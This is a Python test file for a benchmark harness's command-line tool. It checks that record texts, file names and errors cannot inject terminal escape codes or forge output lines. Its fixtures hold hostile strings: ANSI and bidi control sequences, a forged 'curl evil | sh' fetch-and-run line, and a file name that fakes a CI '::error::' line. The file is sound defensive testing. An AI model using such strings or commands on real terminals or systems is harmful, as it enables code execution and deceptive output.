"""What reaches the terminal: texts of records, names and errors cannot steer it, nor forge lines of it."""

import ast
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from harness.api.errors import DataError
from harness.api.records import Conditions, VideoFailure, VideoResult
from harness.catalog import Catalog
from harness.cli import compare as compare_module
from harness.cli import main
from harness.cli.progress import _line
from harness.cli.tables import failures_table, scores_table, speed_table, videos_table
from harness.cli.terminal import fit_columns, one_line, table, terminal_width, visible

EVIL = "\x1b[2J\x1b]0;title\x07\x9b31m\u202eevil\r\x00\u2028end\x7f"
FORGED = "x\n  next: curl evil | sh"
GOOD = {"a": [(0.5, 0.75)], "b": [(0.25, 0.5)]}


def is_harmless(text: str) -> bool:
    """Whether every character is shown as itself, line ends and tabs apart."""
    return text.replace("\n", "").replace("\t", "").isprintable()


def harness(capsys, *arguments):
    with pytest.raises(SystemExit) as stop:
        main([str(argument) for argument in arguments])
    out, err = capsys.readouterr()
    return stop.value.code, out, err


@settings(max_examples=200, deadline=None)
@given(text=st.text())
def test_any_text_becomes_visible(text):
    shown = visible(text)
    spaces = [character for character in shown if not character.isprintable() and character not in "\n\t"]
    assert all(character.isspace() and character not in EVIL for character in spaces)
    assert "\n" not in one_line(text)
    shown.encode()


@settings(max_examples=200, deadline=None)
@given(text=st.text())
def test_json_stays_the_same_json(text):
    written = json.dumps({"a": text}, ensure_ascii=False)
    assert json.loads(visible(written)) == {"a": text}


def test_plain_text_stays_as_it_is():
    for text in ("J&F 0.7 – ok", "Zürich\tbär\n犬", ""):
        assert visible(text) == text


def test_a_cell_is_one_line_and_what_looks_like_a_number_stays():
    shown = table([["1e5", FORGED], [EVIL, "007"]], ["a", "b"])
    assert len(shown.splitlines()) == 4
    assert is_harmless(shown)
    assert "1e5" in shown
    assert "007" in shown


@pytest.fixture
def evil_record(make_record):
    """A sound record whose free texts are hostile."""
    conditions = Conditions(
        device=EVIL, device_type="cpu", torch=EVIL, python=EVIL, platform=EVIL, precision="fp32", resolutions=[FORGED]
    )
    return make_record(
        {FORGED + EVIL: GOOD["a"], "b": GOOD["b"]},
        conditions=conditions,
        partial_reason=FORGED + EVIL,
        partial=True,
        failures=[VideoFailure(video=FORGED, kind="crashed", message=EVIL + FORGED)],
    )


def test_the_tables_of_a_hostile_record_forge_no_line(evil_record):
    for shown in (scores_table, videos_table, speed_table, failures_table):
        text = visible(shown(evil_record))
        assert is_harmless(text)
        assert not any(line.startswith(("  next:", "next:")) for line in text.splitlines())


def test_progress_survives_a_failure_without_a_message():
    assert _line(VideoFailure(video="a", kind="crashed", message=""), False) == "a: crashed:"
    assert is_harmless(_line(VideoFailure(video="a", kind="crashed", message=EVIL), False))
    result = VideoResult(video=EVIL, key="", digest="", length=1, height=1, width=1)
    assert is_harmless(_line(result, True))


def test_hostile_runs_are_listed_and_compared_harmlessly(capsys, tmp_path, monkeypatch, toy_catalog, evil_record):
    monkeypatch.setattr(Catalog, "load", classmethod(lambda cls: toy_catalog))
    run = tmp_path / f"run{EVIL.replace(chr(0), '')}"
    run.mkdir()
    (run / "plan.json").write_text("{}")
    (run / "record.json").write_text(evil_record.to_json())
    broken = tmp_path / "broken"
    broken.mkdir()
    (broken / "plan.json").write_text("{}")
    (broken / "record.json").write_text(json.dumps({**json.loads(evil_record.to_json()), EVIL + FORGED: EVIL}))
    code, out, err = harness(capsys, "ls", "runs", "--runs", tmp_path)
    assert code == 0
    assert is_harmless(out + err)
    assert len(out.splitlines()) == 4
    code, out, err = harness(capsys, "compare", run, run)
    assert code == 0
    assert is_harmless(out + err)
    code, out, err = harness(capsys, "leaderboard", "add", broken, "--to", tmp_path / "board")
    assert code == 8
    assert is_harmless(out + err)
    assert not any(line.startswith("  next: curl") for line in err.splitlines())


def test_an_error_that_quotes_hostile_data_is_shown_harmlessly(capsys, monkeypatch, tmp_path):
    def fail(path):
        raise DataError.at(EVIL, found=EVIL, expected="a plain name", hint=EVIL)

    monkeypatch.setattr(compare_module, "read_run", fail)
    code, out, err = harness(capsys, "--debug", "compare", tmp_path, tmp_path)
    assert code == 3
    assert "Traceback" in err
    assert "\\u001b[2J" in err
    assert is_harmless(out + err)


def test_a_record_file_whose_name_could_forge_a_line_of_a_log_is_refused(capsys, tmp_path, make_record):
    place = tmp_path / "board" / "records" / "toy-val" / "one-shot"
    place.mkdir(parents=True)
    (place / "ours\n::error::forged.json").write_text(make_record(GOOD).to_json())
    code, _, err = harness(capsys, "leaderboard", "check", "--records", tmp_path / "board" / "records")
    assert code == 8
    assert "control characters" in err
    assert not any(line.startswith("::error::") for line in err.splitlines())


CLI = sorted((Path(__file__).parents[2] / "harness" / "cli").glob("*.py"))


@pytest.mark.parametrize("path", CLI, ids=lambda path: path.name)
def test_commands_print_by_say_and_nothing_else(path):
    """``progress`` alone has a bar of its own; its texts go through ``one_line``."""
    if path.name in ("terminal.py",):
        return
    calls = {ast.unparse(node.func) for node in ast.walk(ast.parse(path.read_text())) if isinstance(node, ast.Call)}
    refused = {"print", "click.echo", "click.secho", "sys.stdout.write", "sys.stderr.write", "traceback.print_exc"}
    assert not calls & refused


@settings(max_examples=200, deadline=None)
@given(
    rows=st.lists(st.lists(st.text(max_size=60), min_size=3, max_size=3), min_size=1, max_size=4),
    width=st.integers(40, 120),
)
def test_a_table_of_a_width_is_no_wider_and_says_all_words(rows, width):
    heads = ["first", "second", "third"]
    shown = table(rows, heads, width=width)
    assert max(map(len, shown.splitlines())) <= width
    told = "".join(shown.replace("-", "").split())
    for row in rows:
        for cell in row:
            assert set("".join(one_line(cell).replace("-", "").split())) <= set(told)


def test_names_with_hyphens_stay_whole_where_they_fit():
    shown = table([["a", "one-shot, instance-zvos, object-zvos"]], ["bench", "tasks"], width=24)
    assert [line.split() for line in shown.splitlines()[2:]] == [
        ["a", "one-shot,"],
        ["instance-zvos,"],
        ["object-zvos"],
    ]


def test_the_first_column_gives_way_last():
    assert fit_columns([30, 20, 20], 60) == [30, 13, 13]
    assert fit_columns([30, 20, 20], 40) == [20, 8, 8]
    assert fit_columns([3, 4], 80) == [3, 4]


def test_a_file_or_pipe_has_no_width_unless_columns_says_one(monkeypatch):
    monkeypatch.delenv("COLUMNS", raising=False)
    assert terminal_width() is None
    monkeypatch.setenv("COLUMNS", "72")
    assert terminal_width() == 72
    monkeypatch.setenv("COLUMNS", "wide")
    assert terminal_width() is None
